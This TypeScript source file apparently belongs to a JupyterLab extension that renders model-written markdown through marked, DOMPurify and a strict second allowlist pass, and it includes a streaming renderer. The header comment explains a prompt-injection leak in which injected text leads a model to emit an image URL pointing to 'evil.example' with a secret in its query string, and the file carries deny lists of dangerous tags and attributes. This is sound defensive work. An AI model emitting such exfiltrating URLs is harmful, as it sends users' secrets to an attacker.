// Markdown from the model, rendered with marked and sanitised with DOMPurify.
// Our DOM shares the page with JupyterLab: no scripts, no event handlers, no data-* attributes
// (JupyterLab's commandlinker acts on them), no styles/ids/classes, and only http(s)/mailto links,
// which open in a new tab without an opener.
// Nothing in model text is fetched by itself: an image becomes a link to it. A model that read a
// prompt injection could otherwise leak what it saw through an image URL
// (`![](https://evil.example/?q=<secret>)`), fetched the moment the text is shown.
import DOMPurify, { type Config } from "dompurify";
import { Marked } from "marked";

const marked = new Marked({ gfm: true, breaks: false, async: false });

/** The one URL policy of model text: where a link may point. */
const LINK_URL = /^(?:https?:|mailto:)/i;
/** Of those, what an image's link may point at (a web address). */
const IMAGE_URL = /^https?:/i;

/** Whether `url` may be the target of a link shown in model text. */
export const isSafeLink = (url: string): boolean => LINK_URL.test(url.trim());

const CONFIG: Config = {
  USE_PROFILES: { html: true }, // no SVG or MathML
  ALLOW_DATA_ATTR: false,
  ALLOW_UNKNOWN_PROTOCOLS: false,
  ALLOWED_URI_REGEXP: LINK_URL,
  FORBID_TAGS: [
    "style",
    "script",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "option",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "base",
    "link",
    "meta",
    "template",
    "dialog",
  ],
  FORBID_ATTR: ["style", "id", "name", "class", "target", "form", "formaction", "action", "srcset", "ping"],
  SANITIZE_NAMED_PROPS: true,
};

type Purifier = ReturnType<typeof DOMPurify>;
let purifier: Purifier | null = null;

function getPurifier(): Purifier {
  if (purifier) return purifier;
  const p = DOMPurify(window);
  p.addHook("uponSanitizeAttribute", (node, data) => {
    // Belt and braces: whatever the config, never keep data-* or on* attributes, nor any other
    // than our allowlist's (an image's address is kept for imageAsLink below).
    const name = data.attrName.toLowerCase();
    const imageSrc = name === "src" && node.nodeName === "IMG";
    if (name.startsWith("data-") || name.startsWith("on") || (!ALLOWED_ATTRS.has(name) && !imageSrc)) {
      data.keepAttr = false;
    }
  });
  p.addHook("afterSanitizeAttributes", (node) => {
    if (node.tagName === "A") {
      const href = node.getAttribute("href");
      if (href !== null && !isSafeLink(href)) node.removeAttribute("href");
      if (node.hasAttribute("href")) {
        node.setAttribute("target", "_blank");
        node.setAttribute("rel", "noopener noreferrer");
      }
    }
    // Here, while the markup is still in the sanitiser's inert document: an image that reached
    // this page's document would be fetched at once.
    if (node.tagName === "IMG") imageAsLink(node);
  });
  // Parsed once: passing the configuration to every sanitize() call parses it again each time
  // (a tenth of a millisecond, which adds up over a long transcript's many entries).
  p.setConfig({ ...CONFIG, RETURN_DOM_FRAGMENT: true });
  purifier = p;
  return p;
}

/**
 * Replace an image by a link to it ("Image: <alt text>", opening in a new tab), or by its alt
 * text when its address is not a web address.
 */
function imageAsLink(img: Element): void {
  const doc = img.ownerDocument;
  const src = (img.getAttribute("src") ?? "").trim();
  const alt = (img.getAttribute("alt") ?? "").trim();
  img.removeAttribute("src");
  if (!IMAGE_URL.test(src)) {
    img.replaceWith(doc.createTextNode(alt));
    return;
  }
  const link = doc.createElement("a");
  link.setAttribute("href", src);
  link.setAttribute("target", "_blank");
  link.setAttribute("rel", "noopener noreferrer");
  link.setAttribute("title", `Image not loaded: ${src}`);
  link.textContent = alt ? `Image: ${alt}` : "Image";
  img.replaceWith(link);
}

/** Tags that must never survive, whatever the sanitiser did. */
const FORBIDDEN = new Set([
  ...(CONFIG.FORBID_TAGS as string[]),
  "svg",
  "math",
  "picture",
  "source",
  "video",
  "audio",
  "track",
  "noscript",
  "applet",
  "portal",
  "slot",
]);

/** The only attributes kept on markdown output. */
const ALLOWED_ATTRS = new Set([
  "href",
  "alt",
  "title",
  "target",
  "rel",
  "colspan",
  "rowspan",
  "align",
  "start",
  "reversed",
  "width",
  "height",
  "lang",
  "dir",
  "cite",
  "datetime",
  "scope",
  "open",
]);

/**
 * A second, independent pass over the sanitiser's output with a strict allowlist, so that the
 * guarantees above hold even if DOMPurify is misconfigured or meets a DOM it does not handle.
 */
function enforceInert(root: DocumentFragment): void {
  for (const el of [...root.querySelectorAll("*")]) {
    const tag = el.localName.toLowerCase();
    if (tag === "img") {
      imageAsLink(el);
      continue;
    }
    if (FORBIDDEN.has(tag)) {
      el.remove();
      continue;
    }
    for (const attr of [...el.attributes]) {
      const name = attr.name.toLowerCase();
      const value = attr.value.trim();
      if (
        !ALLOWED_ATTRS.has(name) ||
        (name === "href" && !isSafeLink(value))
      ) {
        el.removeAttribute(attr.name);
      }
    }
    if (el.localName === "a") {
      if (el.hasAttribute("href")) {
        el.setAttribute("target", "_blank");
        el.setAttribute("rel", "noopener noreferrer");
      } else {
        el.removeAttribute("target");
        el.removeAttribute("rel");
      }
    } else {
      el.removeAttribute("target");
    }
  }
}

/**
 * Markup that raw HTML in markdown may use. Any other tag-like text (`<lambda>()`, a
 * `<style>` mentioned in prose, an unclosed comment) is the writer's text and is shown as such.
 */
const MARKUP_TAGS = new Set(
  (
    "a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code col " +
    "colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 " +
    "header hgroup hr i img ins kbd li main mark nav ol p pre q rp rt ruby s samp section small " +
    "span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr"
  ).split(" "),
);

/** Dangerous markup: dropped when it is real markup (see `neutralizeRawHtml`). */
const DROPPED_TAGS = new Set([
  ...FORBIDDEN,
  "optgroup",
  "title",
  "xmp",
  "noembed",
  "noframes",
  "plaintext",
  "param",
  "fencedframe",
]);

/** Dropped elements whose content goes too (code, styles, embedded documents). */
const DROPPED_WITH_CONTENT = new Set([
  "script",
  "style",
  "iframe",
  "textarea",
  "title",
  "xmp",
  "noembed",
  "noframes",
  "noscript",
  "template",
  "svg",
  "math",
  "object",
  "applet",
  "select",
]);

const OPEN_TAG =
  /<([A-Za-z][A-Za-z0-9-]*)((?:\s+[A-Za-z_:][A-Za-z0-9_.:-]*(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*(\/?)>/y;
const CLOSE_TAG = /<\/([A-Za-z][A-Za-z0-9-]*)\s*>/y;

/**
 * Raw HTML in marked's output, made safe to parse without losing the writer's text. An HTML
 * parser reads `<style>` or `<textarea>` as the start of raw text that runs to its end tag (or
 * to the end: the rest of the message vanished), and drops unknown tags such as `<lambda>`. So
 * every `<` that does not start allowed markup is escaped and shows as text, except real
 * dangerous markup, which is dropped: an element with its end tag (`<script>...</script>`, with
 * its content for code-like elements) or a dangerous tag with attributes (`<img>` is allowed; its
 * attributes are the sanitiser's job). A bare `<script>` or `</style>` in prose is text, and so
 * is one followed by another `<script>` before the end tag (the later one is the markup).
 */
export function neutralizeRawHtml(html: string): string {
  if (!html.includes("<")) return html;
  const lower = html.toLowerCase();
  // Where `<name` or `</name` next occurs at or after a position (-1: nowhere). Memoised, as
  // positions only grow: one scan per pattern and stretch of text, however many tags.
  const memo = new Map<string, { from: number; at: number }>();
  const nextTag = (prefix: string, from: number): number => {
    const seen = memo.get(prefix);
    if (seen && seen.from <= from && (seen.at === -1 || seen.at >= from)) return seen.at;
    const re = new RegExp(`${prefix}[\\s/>]`, "g");
    re.lastIndex = from;
    const at = re.exec(lower)?.index ?? -1;
    memo.set(prefix, { from, at });
    return at;
  };
  // The end tag that closes an element opened just before `from`: the first one, unless another
  // start tag of that name comes first (then this one was prose, and the later one is markup).
  const endTag = (name: string, from: number): { start: number; end: number } | null => {
    const at = nextTag(`</${name}`, from);
    if (at === -1) return null;
    const reopened = nextTag(`<${name}`, from);
    if (reopened !== -1 && reopened < at) return null;
    const close = lower.indexOf(">", at);
    return { start: at, end: close === -1 ? html.length : close + 1 };
  };
  // Where the next `-->` ends a comment opened at or after a position (-1: nowhere), memoised as
  // `nextTag` is: text of many unclosed `<!--` would be scanned to its end once per `<!--`.
  let commentEnd = { from: Infinity, at: -1 };
  const nextCommentEnd = (from: number): number => {
    if (commentEnd.from > from || (commentEnd.at !== -1 && commentEnd.at < from)) {
      commentEnd = { from, at: html.indexOf("-->", from) };
    }
    return commentEnd.at;
  };
  const openDropped = new Map<string, number>();
  let out = "";
  let last = 0;
  let i = html.indexOf("<");
  while (i !== -1) {
    out += html.slice(last, i);
    let next = i + 1;
    let keep = "&lt;";
    if (html.startsWith("<!--", i)) {
      const end = nextCommentEnd(i + 4);
      if (end !== -1) {
        keep = ""; // a complete comment: never shown
        next = end + 3;
      }
    } else if (html[i + 1] === "/") {
      CLOSE_TAG.lastIndex = i;
      const m = CLOSE_TAG.exec(html);
      if (m) {
        const name = m[1]!.toLowerCase();
        if (MARKUP_TAGS.has(name)) {
          keep = m[0];
          next = i + m[0].length;
        } else if ((openDropped.get(name) ?? 0) > 0) {
          openDropped.set(name, openDropped.get(name)! - 1);
          keep = "";
          next = i + m[0].length;
        }
      }
    } else {
      OPEN_TAG.lastIndex = i;
      const m = OPEN_TAG.exec(html);
      if (m) {
        const name = m[1]!.toLowerCase();
        const tagEnd = i + m[0].length;
        if (MARKUP_TAGS.has(name)) {
          keep = m[0];
          next = tagEnd;
        } else if (DROPPED_TAGS.has(name)) {
          const marked = m[2]!.trim() !== "" || m[3] === "/";
          const end = endTag(name, tagEnd);
          if (end && DROPPED_WITH_CONTENT.has(name)) {
            keep = "";
            next = end.end;
          } else if (end || marked) {
            keep = "";
            next = tagEnd;
            if (end) openDropped.set(name, (openDropped.get(name) ?? 0) + 1);
          }
        }
      }
    }
    out += keep;
    last = next;
    i = html.indexOf("<", next);
  }
  return out + html.slice(last);
}

/** HTML from marked to a sanitised, inert fragment of this document. */
function sanitized(html: string): DocumentFragment {
  const frag = getPurifier().sanitize(neutralizeRawHtml(html)) as unknown as DocumentFragment; // configured once
  enforceInert(frag);
  return frag;
}

function textFragment(text: string): DocumentFragment {
  const frag = document.createDocumentFragment();
  frag.appendChild(document.createTextNode(text));
  return frag;
}

/** Markdown text to a sanitised fragment of this document. */
export function renderMarkdown(text: string): DocumentFragment {
  let html: string;
  try {
    html = marked.parse(text) as string;
  } catch {
    return textFragment(text);
  }
  return sanitized(html);
}

/** Replace the children of `el` with the rendered markdown. */
export function setMarkdown(el: HTMLElement, text: string): void {
  el.replaceChildren(renderMarkdown(text));
}

type Tokens = ReturnType<typeof marked.lexer>;
type Links = Tokens["links"];

/** Whether two sets of link definitions are the same. */
function sameLinks(a: Links, b: Links): boolean {
  const keys = Object.keys(b);
  if (keys.length !== Object.keys(a).length) return false;
  return keys.every((k) => a[k] !== undefined && a[k].href === b[k]!.href && a[k].title === b[k]!.title);
}

const rawLength = (tokens: Tokens | Tokens[number][]): number =>
  tokens.reduce((n, t) => n + t.raw.length, 0);

/**
 * Markdown that grows (a streamed message) rendered into `el` block by block, so that a frame
 * costs O(new text), not O(whole text): when the text extends what was rendered, only the last
 * top-level block (and what follows it) is lexed and rendered again; the blocks before it keep
 * their DOM. The result is the same as rendering the whole text. Any other change, a new link
 * definition (earlier blocks may use it), or raw HTML (a tag may span blocks) renders the whole
 * text at once, as `setMarkdown` does.
 */
export class StreamingMarkdown {
  private text: string | null = null;
  /** Length of the text whose blocks are final (their DOM stays). */
  private stableLength = 0;
  /** The DOM of the last blocks (see `extend`), replaced on every change. */
  private tailNodes: ChildNode[] = [];
  /** Link definitions of the final blocks, and of the whole text as last rendered. */
  private stableLinks: Links = Object.create(null) as Links;
  private links: Links = Object.create(null) as Links;
  /** Raw HTML was seen: render the whole text every time. */
  private whole = false;

  /** `toFragment` turns marked's HTML into DOM (sanitised; tests of the block logic swap it). */
  constructor(
    private readonly el: HTMLElement,
    private readonly toFragment: (html: string) => DocumentFragment = sanitized,
  ) {}

  render(input: string): void {
    const text = input.replace(/\r\n?/g, "\n"); // as marked's lexer normalises it
    if (text === this.text) return;
    const grows = this.text !== null && text.startsWith(this.text);
    if (this.whole || !grows || !this.extend(text, false)) {
      if (this.whole || !this.extend(text, true)) this.renderWhole(input, text);
    }
  }

  private renderWhole(input: string, text: string): void {
    let frag: DocumentFragment;
    try {
      frag = this.toFragment(marked.parse(input) as string);
    } catch {
      frag = textFragment(input);
    }
    this.el.replaceChildren(frag);
    this.text = text;
    this.stableLength = 0;
    this.tailNodes = [...this.el.childNodes];
  }

  /**
   * Lex and render the text after the final blocks (all of it with `restart`); false: give up.
   * Of the new tokens, the last blocks stay open (more text may change them), and so does a
   * list just before them (a paragraph "3" becomes the list item "3." that continues the list);
   * the blocks before are final.
   */
  private extend(text: string, restart: boolean): boolean {
    const start = restart ? 0 : this.stableLength;
    const src = text.slice(start);
    let tokens: Tokens;
    try {
      const lexer = new marked.Lexer(marked.defaults);
      if (!restart) Object.assign(lexer.tokens.links, this.stableLinks);
      tokens = lexer.lex(src);
    } catch {
      return false;
    }
    if (rawLength(tokens) !== src.length) return false; // offsets would drift
    let html = false;
    marked.walkTokens(tokens, (t) => {
      if (t.type === "html") html = true;
    });
    if (html) {
      this.whole = true;
      return false;
    }
    if (!restart && !sameLinks(this.links, tokens.links)) return false; // a definition changed
    const isSpace = (i: number): boolean => tokens[i]!.type === "space";
    // The open region: the last run of blocks not separated by a blank line (a later line can
    // still turn the last one into a continuation of the one before: "***" + "|" is no rule but
    // paragraph text), and a list just before it.
    let open = tokens.length;
    while (open > 0 && isSpace(open - 1)) open--;
    const runStart = (end: number): number => {
      let i = end;
      while (i > 0 && !isSpace(i - 1)) i--;
      return i;
    };
    open = open > 0 ? runStart(open - 1) : 0;
    let before = open - 1;
    while (before >= 0 && isSpace(before)) before--;
    if (before >= 0 && tokens[before]!.type === "list") open = runStart(before);
    const stable = tokens.slice(0, open);
    const tail = tokens.slice(open);
    let stableHtml: string;
    let tailHtml: string;
    try {
      stableHtml = stable.length ? (marked.parser(stable) as string) : "";
      tailHtml = marked.parser(tail) as string;
    } catch {
      return false;
    }
    if (restart) {
      this.el.replaceChildren();
      this.stableLinks = Object.create(null) as Links;
    } else {
      for (const node of this.tailNodes) node.remove();
    }
    if (stableHtml) this.el.append(this.toFragment(stableHtml));
    const frag = this.toFragment(tailHtml);
    this.tailNodes = [...frag.childNodes];
    this.el.append(frag);
    this.text = text;
    this.stableLength = start + rawLength(stable);
    this.links = { ...tokens.links };
    for (const t of stable) {
      if (t.type === "def" && !(t.tag in this.stableLinks)) {
        this.stableLinks[t.tag] = { href: t.href, title: t.title };
      }
    }
    return true;
  }
}
